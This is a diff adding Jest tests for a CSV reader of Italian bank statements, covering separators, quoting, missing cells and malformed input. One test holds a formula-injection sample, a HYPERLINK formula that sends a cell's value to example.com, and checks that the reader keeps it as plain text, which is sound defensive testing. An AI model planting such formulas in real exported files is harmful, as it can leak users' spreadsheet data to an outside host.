@@ -1,0 +1,67 @@
+import { describe, expect, it } from '@jest/globals';
+import { readCsv } from './read-csv';
+
+const read = (...lines: string[]) => [...readCsv(lines.join('\n'))];
+const ROW = {
+  line: 2,
+  date: '22/11/2026',
+  amount: '150,00',
+  currency: 'EUR',
+  payer: 'Rossi',
+  text: 'quota',
+  reference: 'A1',
+};
+
+describe('a statement as CSV', () => {
+  it('may have semicolons or commas, CRLF, and columns in any order and case', () => {
+    expect(read('data;importo;ordinante;causale;riferimento', '22/11/2026;150,00;Rossi;quota;A1')).toEqual([ROW]);
+    expect(
+      read(' CAUSALE,Riferimento,Data,altro,"Importo",ordinante\r', 'quota,A1,22/11/2026,x,"150,00",Rossi\r', ''),
+    ).toEqual([ROW]);
+  });
+
+  it('may have quoted separators, quotation marks and line breaks, and says on which line a row begins', () => {
+    const rows = read(
+      'data;importo;causale',
+      '1/1/2026;1;"una; due""',
+      'tre"',
+      '',
+      '2/1/2026;2;ultima "tra virgolette"',
+    );
+    expect(rows).toMatchObject([
+      { line: 2, text: 'una; due"\ntre' },
+      { line: 5, text: 'ultima "tra virgolette"' },
+    ]);
+  });
+
+  it('may leave cells out or have too many', () => {
+    expect(read('data;importo;causale;riferimento', '1/1/2026;1', '1/1/2026;1;a;b;c;d')).toMatchObject([
+      { text: '', reference: '', payer: '' },
+      { text: 'a', reference: 'b' },
+    ]);
+  });
+
+  it('keeps formulas as text', () => {
+    const formula = `=HYPERLINK("http://example.com?x="&A1)`;
+    const [row] = read('data;importo;causale', `1/1/2026;1;"${formula.replaceAll('"', '""')}"`);
+    expect(row).toMatchObject({ text: formula });
+  });
+
+  it('ends with a refusal where a quotation mark is never closed', () => {
+    const rows = read('data;importo;causale', '1/1/2026;1;a', '2/1/2026;2;"b', '3/1/2026;3;c');
+    expect(rows).toMatchObject([{ line: 2 }, { reason: expect.stringContaining('virgolette') }]);
+    const endless = read('data;importo;causale', `2/1/2026;2;"${'b\n'.repeat(20_000)}`);
+    expect(endless).toMatchObject([{ reason: expect.stringContaining('virgolette') }]);
+  });
+
+  it.each([
+    ['an empty file', ''],
+    ['empty lines', '\n\n'],
+  ])('is refused as %s', (_, file) => {
+    expect(() => [...readCsv(file)]).toThrow(expect.objectContaining({ key: 'payments.fileUnreadable' }));
+  });
+
+  it.each(['importo;causale', 'data;causale', 'data;importo', 'x'])('is refused with the header %j', (header) => {
+    expect(() => read(header, '1;2')).toThrow(expect.objectContaining({ key: 'payments.columnsMissing' }));
+  });
+});
